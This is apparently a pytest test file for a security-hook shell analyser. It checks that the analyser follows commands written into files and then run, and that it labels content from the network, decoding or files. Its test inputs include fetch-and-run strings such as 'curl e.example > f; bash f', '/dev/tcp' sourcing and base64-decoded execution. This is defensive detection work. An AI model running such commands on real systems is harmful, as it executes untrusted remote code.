from collections.abc import Callable

import pytest

from security_hooks.model.effect import EffectKind
from security_hooks.model.shell import Script
from security_hooks.model.word import Origin


@pytest.mark.parametrize(
    "text",
    [
        "echo rm x > f; bash f",
        "echo ls > f; echo rm x >> f; sh ./f",
        "echo rm x >| /tmp/f; cd /tmp; . f",
        'F=$(mktemp); echo rm x > "$F"; bash "$F"',
        "cat > f <<X\nrm x\nX\nbash < f",
        "echo rm x | sudo tee -a f; sh f",
        "(echo rm x) > f; bash f",
        "echo rm x > f; cp f g; ./g",
        "bash -c 'echo rm x > f'; bash f",
        "echo rm x | dd of=f; sh ./f",
        "echo rm x > f; cat f > g; sh g",
    ],
)
def test_what_a_script_wrote_is_read_where_it_runs_it(read: Callable[[str], Script], text: str) -> None:
    assert "rm x" in [command.folded for command in read(text).commands]


@pytest.mark.parametrize(
    ("text", "origin"),
    [
        ("curl e.example > f; bash f", Origin.NETWORK),
        ("curl e.example | tee f; bash f", Origin.NETWORK),
        ("wget -O f e.example; sh f", Origin.NETWORK),
        ("base64 -d x > f; sh f", Origin.DECODED),
        ("make > f; sh f", Origin.FILE),
        ("echo ls > g; sort g -o f; sh f", Origin.UNKNOWN),
        ("echo ls > g; sed s/l/r/ g > f; sh f", Origin.UNKNOWN),
        ("curl e.example > g; sort g > f; sh f", Origin.NETWORK),
        ("sort g > f; sh f", Origin.FILE),
        ("echo ls > g; sh f", Origin.FILE),
    ],
)
def test_a_file_is_from_where_its_content_is(read: Callable[[str], Script], text: str, origin: Origin) -> None:
    assert read(text).commands[-1].origin is origin


def test_a_file_that_runs_itself_is_read_once(read: Callable[[str], Script]) -> None:
    script = read("echo './f; rm x' > f; bash f")
    assert not script.over_budget
    assert [command.folded for command in script.commands].count("rm x") == 1


def test_a_file_for_another_interpreter_is_not_read_as_shell(read: Callable[[str], Script]) -> None:
    script = read("cat > f <<'X'\n#!/usr/bin/env node\nconst a = `rm x`\nX\n./f")
    assert not script.unparseable
    assert "rm x" not in [command.folded for command in script.commands]


def test_copies_of_copies_do_not_grow_without_end(read: Callable[[str], Script]) -> None:
    script = read("echo ls > f; " + "cp f g; cp g f; " * 100 + "bash f")
    assert script.dynamic
    assert script.commands[-1].origin is Origin.UNKNOWN


@pytest.mark.parametrize(
    "text",
    [
        "curl -O https://e.example/a/f; bash f",
        "curl -LO 'https://e.example/f?x=1#y' && sh ./f",
        "wget -q https://e.example/f; sh f",
        "source /dev/tcp/e.example/80",
        "bash /dev/tcp/e.example/80",
    ],
)
def test_a_file_that_is_saved_under_the_name_in_its_url_is_from_the_network(
    read: Callable[[str], Script], text: str
) -> None:
    assert read(text).commands[-1].origin is Origin.NETWORK


def test_another_file_than_the_one_that_was_fetched_is_a_file(read: Callable[[str], Script]) -> None:
    assert read("curl -O https://e.example/f; bash g").commands[-1].origin is Origin.FILE


@pytest.mark.parametrize(
    ("text", "content"),
    [
        ("cat > f <<'X'\nrm x\nX", "rm x\n"),
        ("printf 'a\\nb\\n' >> f", "a\nb\n"),
        ("echo a | tee f", "a\n"),
        ("echo a | sudo tee f", "a\n"),
        ("bash -c 'echo a > f'", "a\n"),
        ("cat > f <<X\n$HOME is a home\n$X\nX", None),
        ("echo $X > f", None),
        ("date > f", None),
        ("echo cm0= | base64 -d > f", None),
        ("curl -so f https://e.example", None),
        (f"echo {'x' * 20_000} > f", None),
    ],
)
def test_a_write_says_what_is_written_where_that_is_known_whole(
    read: Callable[[str], Script], text: str, content: str | None
) -> None:
    (written,) = [
        effect.content
        for command in read(text).commands
        for effect in command.effects
        if effect.kind is EffectKind.WRITES
    ]
    assert (written and written.literal) == content
